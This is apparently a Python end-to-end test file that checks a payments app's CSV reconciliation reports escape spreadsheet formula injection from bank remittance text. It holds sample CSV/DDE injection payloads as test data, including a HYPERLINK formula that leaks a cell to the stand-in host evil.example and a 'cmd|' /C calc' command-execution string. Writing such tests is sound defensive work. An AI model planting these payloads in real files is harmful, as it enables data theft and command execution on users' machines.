"""Formula injection (issue 12, item 10): a bank's remittance text reaches the treasurer's spreadsheet as text.

A camt.053 credit says ``=HYPERLINK("https://evil.example/?"&A1,"Refund")`` in its remittance. The day's report,
exported as CSV over HTTP and by ``disburse reconcile --csv``, must show that text and never let a spreadsheet run it;
amounts stay numbers (a debit is a bare ``-250``, not text).
"""

from __future__ import annotations

import csv
import io
import re

import main
from payments.identity import Role
from tests.e2e.hostile_files import Entry, camt053
from tests.e2e.people import client, people, stack  # noqa: F401

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
STATEMENT = camt053([Entry("15.00", remittance=FORMULA), Entry("2.50", credit=False, remittance="@SUM(1+1)*cmd|' /C calc'!A0"),
                     Entry("1.25", remittance="+1,-2;\tTAB")])


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_neutralised(text: str) -> None:
    rows = _cells(text)
    assert rows[0] == ["section", "reference", "date", "amount", "currency", "detail", "amount_minor"]
    details = [row[5] for row in rows[1:] if row[0] == "unmatched_line"]
    assert "'" + FORMULA in details
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in details
    assert "'+1,-2;\tTAB" in details  # one cell: its comma and semicolon are quoted, not new cells
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
               if not _is_number(cell))
    # Every text cell is quoted; numbers are bare: the debit's amount is the number -2.50 (and -250 in minor units,
    # the last column), not text.
    raw_lines = text.splitlines()
    debit = next(line for line in raw_lines if "@SUM" in line)
    assert ",-2.50," in debit and debit.endswith(",-250") and debit.startswith('"unmatched_line",')


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is not None


def test_the_report_csv_over_http_neutralises_formulas_and_keeps_amounts_numbers(client, people):
    treasurer = people.headers("tess", Role.TREASURER)
    uploaded = client.post("/v1/statements", content=STATEMENT, headers=treasurer)
    assert uploaded.status_code == 201, uploaded.text
    r = client.get("/v1/reconciliation/reports/2026-09-23?format=csv", headers=treasurer)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    assert_neutralised(r.text)
    # The JSON report is data, not a spreadsheet: it carries the text exactly as the bank sent it.
    report = client.get("/v1/reconciliation/reports/2026-09-23", headers=treasurer).json()
    assert FORMULA in [line["description"] for line in report["unmatched_lines"]]


def test_disburse_reconcile_csv_neutralises_the_same_way(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DISBURSE_DATABASE_URL", f"sqlite:///{tmp_path / 'd.db'}")
    monkeypatch.setenv("DISBURSE_KEY_DIR", str(tmp_path / "keys"))
    assert main.cli(["init"]) == 0
    (tmp_path / "stmt.xml").write_bytes(STATEMENT)
    assert main.cli(["statements", "import", str(tmp_path / "stmt.xml")]) == 0
    capsys.readouterr()
    main.cli(["reconcile", "--date", "2026-09-23", "--csv"])
    assert_neutralised(capsys.readouterr().out)
